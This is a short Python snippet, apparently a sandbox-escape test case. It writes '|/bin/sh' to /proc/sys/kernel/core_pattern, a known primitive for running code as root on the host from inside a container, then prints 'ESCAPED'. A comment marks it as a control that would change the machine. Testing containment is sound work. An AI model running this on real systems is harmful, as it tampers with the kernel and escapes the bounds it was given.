# control: none, would change the machine
open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')
print('ESCAPED')
